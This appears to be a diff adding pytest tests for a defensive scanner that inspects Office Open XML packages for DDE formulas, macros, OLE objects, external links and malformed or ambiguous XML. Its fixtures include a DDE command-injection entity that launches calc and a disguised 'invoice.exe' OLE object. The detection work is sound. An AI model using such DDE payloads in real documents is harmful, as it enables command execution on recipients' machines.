+    report = analyse_package(data)
+    assert report.problems == ()
+    name = "ppt/embeddings/Microsoft_Excel_Worksheet.xlsx"
+    assert [(e.name, e.kind) for e in report.embedded] == [(name, EmbeddedKind.PACKAGE)]
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert report.embedded[0].data == archive.read(name)
+
+
+def test_dde_in_a_chart_series_formula() -> None:
+    parts, overrides = chart()
+    chart_part = str(parts["ppt/charts/chart1.xml"]).replace("Sheet1!$B$2:$B$5", COMMAND)
+    parts = {**parts, "ppt/charts/chart1.xml": chart_part}
+    data = pptx(rels=[("chart", "../charts/chart1.xml", False)], parts=parts, overrides=overrides)
+    assert threats(analyse_package(data)) == [(OpcKind.DDE, "ppt/charts/chart1.xml", "formula")]
+
+
+def test_macros_in_an_embedded_package_are_found_when_it_is_scanned() -> None:
+    macro_book = xlsx(
+        rels=[(f"{MS}vbaProject", "vbaProject.bin", False)],
+        parts={"xl/vbaProject.bin": vba_project()},
+        main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml",
+    )
+    parts = {"word/embeddings/Book.xlsm": macro_book}
+    overrides = {"word/embeddings/Book.xlsm": "application/vnd.ms-excel.sheet.macroEnabled.12"}
+    rels = [("package", "embeddings/Book.xlsm", False)]
+    report = analyse_package(docx(rels=rels, parts=parts, overrides=overrides))
+    assert report.problems == ()
+    [embedded] = report.embedded
+    assert embedded.kind is EmbeddedKind.PACKAGE
+    assert analyse_package(embedded.data).vba_parts == ("xl/vbaProject.bin",)
+
+
+@pytest.mark.parametrize(
+    ("data", "kind"),
+    [
+        (ole_file({"\x01Ole10Native": ole_native("invoice.exe", b"MZ")}), EmbeddedKind.OLE),
+        (b"just some bytes", EmbeddedKind.FILE),
+    ],
+    ids=["ole-package", "other"],
+)
+def test_embedded_objects_are_classified_by_their_bytes(data: bytes, kind: EmbeddedKind) -> None:
+    parts = {"word/embeddings/oleObject1.bin": data}
+    overrides = {"word/embeddings/oleObject1.bin": f"{OOXML}oleObject"}
+    rels = [("oleObject", "embeddings/oleObject1.bin", False)]
+    report = analyse_package(docx(rels=rels, parts=parts, overrides=overrides))
+    assert report.problems == ()
+    assert report.embedded == (
+        Embedded("word/embeddings/oleObject1.bin", f"{OOXML}oleobject", kind, data),
+    )
+
+
+# -- ambiguity and damage ------------------------------------------------------------------------
+
+
+DOCTYPE = "<!DOCTYPE worksheet [<!ENTITY cmd \"cmd|'/c calc'!A1\">]>"
+
+
+@pytest.mark.parametrize(
+    ("where", "build"),
+    [
+        ("xl/worksheets/sheet1.xml",
+         lambda: xlsx(formula_sheet("&cmd;").replace("\n", "\n" + DOCTYPE))),
+        ("xl/_rels/workbook.xml.rels",
+         lambda: package({"_rels/.rels": root_rels("xl/workbook.xml"),
+                          "xl/workbook.xml": f'{XML}<workbook xmlns="{S}"/>',
+                          "xl/_rels/workbook.xml.rels": XML + "<!DOCTYPE x>" +
+                          rels_xml([]).decode().split("?>", 1)[1]}, {})),
+        ("[Content_Types].xml",
+         lambda: rewrite(xlsx(), "[Content_Types].xml",
+                         lambda xml: xml.replace(b"<Types ", b"<!DOCTYPE Types><Types ", 1))),
+    ],
+    ids=["sheet", "relationships", "content-types"],
+)  # fmt: skip
+def test_dtd_makes_a_part_ambiguous(where: str, build: Callable[[], bytes]) -> None:
+    report = analyse_package(build())
+    ambiguous = [p for p in report.problems if p.kind is OpcKind.AMBIGUOUS]
+    assert [p.location for p in ambiguous] == [where]
+    assert "DTD" in ambiguous[0].message
+
+
+def test_xml_encoding_office_refuses_is_ambiguous() -> None:
+    sheet = formula_sheet("A1").replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
+    report = analyse_package(xlsx(sheet))
+    assert threats(report) == [(OpcKind.AMBIGUOUS, "xl/worksheets/sheet1.xml", "")]
+
+
+def test_xml_that_does_not_parse_is_damaged() -> None:
+    report = analyse_package(xlsx(worksheet("<c r='A1'><v>1</c>")))
+    assert threats(report) == [(OpcKind.DAMAGED, "xl/worksheets/sheet1.xml", "")]
+
+
+def test_vml_drawing_as_excel_writes_it_is_not_damaged() -> None:
+    # Excel writes comment boxes with unclosed <br> tags; Office reads VML leniently
+    vml = (
+        '<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:textbox><div>'
+        "<font>Alice:</font><br><font>check the total</font></div></v:textbox></v:shape></xml>"
+    )
+    parts: Parts = {
+        "xl/drawings/vmlDrawing1.vml": vml,
+        "xl/worksheets/_rels/sheet1.xml.rels": rels_xml(
+            [("vmlDrawing", "../drawings/vmlDrawing1.vml", False)]
+        ),
+    }
+    vml_type = f"{OOXML}vmlDrawing"
+    report = analyse_package(xlsx(worksheet(), parts=parts, overrides={
+        "xl/drawings/vmlDrawing1.vml": vml_type}))  # fmt: skip
+    assert report.problems == ()
+
+
+def test_two_entries_for_one_part_are_ambiguous() -> None:
+    data = xlsx(parts={"XL/Worksheets/Sheet1.xml": formula_sheet(COMMAND)})
+    assert (OpcKind.AMBIGUOUS, "XL/Worksheets/Sheet1.xml", "duplicate") in threats(
+        analyse_package(data)
+    )
+
+
+def test_interleaved_pieces_are_ambiguous() -> None:
+    parts: Parts = {"xl/worksheets/sheet2.xml/[0].piece": "<worksheet",
+                    "xl/worksheets/sheet2.xml/[1].last.piece": "/>"}  # fmt: skip
+    report = analyse_package(xlsx(parts=parts))
+    assert threats(report) == [(OpcKind.AMBIGUOUS, "xl/worksheets/sheet2.xml/[0].piece", "piece")]
+
+
+def test_conflicting_content_types_are_ambiguous() -> None:
+    data = xlsx(overrides={"XL/WORKSHEETS/SHEET1.XML": "application/vnd.ms-excel.macrosheet+xml"})
+    kinds = [p.kind for p in analyse_package(data).problems]
+    assert OpcKind.AMBIGUOUS in kinds
+
+
+def test_package_without_content_types_or_relationships_is_damaged() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr("word/document.xml", f'<w:document xmlns:w="{W}"/>')
+    report = analyse_package(out.getvalue())
+    assert [(p.kind, p.message) for p in report.problems if not p.kind.info] == [
+        (OpcKind.DAMAGED, "no [Content_Types].xml: not an OPC package"),
+        (OpcKind.DAMAGED, "no package relationships (_rels/.rels)"),
+    ]
+
+
+def test_missing_target_and_missing_content_type_are_information() -> None:
+    rels = [("image", "media/gone.png", False), ("image", "media/photo.webp", False)]
+    report = analyse_package(docx(rels=rels, parts={"word/media/photo.webp": b"RIFF"}))
+    assert threats(report) == []
+    assert info(report) == [
+        (OpcKind.MISSING_PART, "word/_rels/document.xml.rels"),
+        (OpcKind.NO_CONTENT_TYPE, "word/media/photo.webp"),
+    ]
+
+
+def test_relationship_count_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(opc, "MAX_RELATIONSHIPS", 3)
+    report = analyse_package(docx())
+    assert (OpcKind.LIMIT, "", "") in threats(report)
+
+
+def test_deep_nesting_is_read_without_recursion() -> None:
+    deep = "<a:g>" * 100_000 + "</a:g>" * 100_000
+    part = f'<p:sld xmlns:p="{P}" xmlns:a="{A}">{deep}</p:sld>'.encode()
+    assert read_part(part).root == f"{P} sld"
+
+
+# -- size ----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("formula", ["A{i}*2", 'IF(A{i}="a|b",1,0)'], ids=["plain", "pipes"])
+def test_five_megabyte_sheet_is_inspected_quickly(formula: str) -> None:
+    rows: list[str] = []
+    size = 0
+    while size < 5_000_000:
+        i = len(rows) + 1
+        text = formula.format(i=i).replace('"', "&quot;")
+        row = f'<row r="{i}"><c r="A{i}" s="1"><v>{i}</v></c><c r="B{i}"><f>{text}</f></c></row>'
+        rows.append(row)
+        size += len(row)
+    data = xlsx(worksheet("".join(rows)))
+    start = time.process_time()  # CPU time: other processes on the machine do not count
+    report = analyse_package(data)
+    assert time.process_time() - start < 0.9
+    assert report.problems == ()
+
+
+# -- real samples --------------------------------------------------------------------------------
+
+
+CLEAN = [
+    "msodde/harmless-clean.docx", "msodde/harmless-clean.docm", "msodde/dde-test.docx",
+    "msodde/dde-test.docm",  # Word DDE fields: for the field analysis, not this reader
+    *(f"oleobj/embedded-simple-2007.{ext}" for ext in
+      ("docx", "docm", "dotx", "dotm", "pptx", "pptm", "potx", "potm", "ppsx", "ppsm", "xlsx",
+       "xlsm", "xlsb", "xltx", "xltm", "xlam")),
+    "oleobj/embedded-unicode-2007.docx",
+]  # fmt: skip
+EXPECTED = {
+    "excel4-macros/excel4_sample_macro.xlsm": [(OpcKind.XLM, "xl/macrosheets/sheet1.xml", "")],
+    "excel4-macros/excel4_sample_macro.xltm": [(OpcKind.XLM, "xl/macrosheets/sheet1.xml", "")],
+    "excel4-macros/excel4_sample_macro.xlsb": [(OpcKind.XLM, "xl/macrosheets/sheet1.bin", "")],
+    "msodde/dde-test.xlsx": [(OpcKind.DDE, "xl/externalLinks/externalLink1.xml", "ddeLink")],
+    "msodde/dde-test.xlsm": [(OpcKind.DDE, "xl/externalLinks/externalLink1.xml", "ddeLink")],
+    "oleform/oleform-PR314.docm": [(OpcKind.VBA, "word/vbaProject.bin", "")],
+    "oleobj/external_link/sample_with_external_link_to_doc.docx": [
+        (OpcKind.EXTERNAL_LINK, "word/_rels/document.xml.rels", "oleObject")],
+    "oleobj/external_link/sample_with_external_link_to_doc.pptx": [
+        (OpcKind.EXTERNAL_LINK, "ppt/slides/_rels/slide1.xml.rels", "oleObject")],
+    "oleobj/external_link/sample_with_external_link_to_doc.xlsx": [
+        (OpcKind.EXTERNAL_LINK, "xl/externalLinks/_rels/externalLink1.xml.rels", "oleObject"),
+        (OpcKind.DDE, "xl/externalLinks/externalLink1.xml", "oleLink")],
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("path", CLEAN)
+def test_real_benign_documents(path: str, oletools_data: Path) -> None:
+    report = analyse_package(read_sample(oletools_data, path))
+    assert report.problems == ()
+    if "embedded" in path:  # an embedded OLE object, for the caller's OLE inspection
+        assert [e.kind for e in report.embedded] == [EmbeddedKind.OLE]
+    if path.endswith(("docx", "docm")):
+        assert "word/document.xml" in report.word_parts
+
+
+@pytest.mark.parametrize("path", list(EXPECTED))
+def test_real_documents_with_active_content(path: str, oletools_data: Path) -> None:
+    report = analyse_package(read_sample(oletools_data, path))
+    assert threats(report) == EXPECTED[path]
+    assert all(isinstance(p, OpcProblem) and p.message for p in report.problems)
+
+
+# -- the red team's evasions (tests/support/evasions.py) -----------------------------------------
+
+
+EVASIONS = [
+    case for case in CASES if case.cls in ("external-rels", "pptx-actions", "xlsx-formulas")
+]
+
+
+@pytest.mark.parametrize("case", EVASIONS, ids=[case.id for case in EVASIONS])
+def test_red_team_evasions_and_their_look_alikes(case: Case) -> None:
+    """Hostile cases give a problem that is not informational; benign look-alikes none."""
+    report = analyse_package(case.build())
+    assert bool(threats(report)) is case.hostile
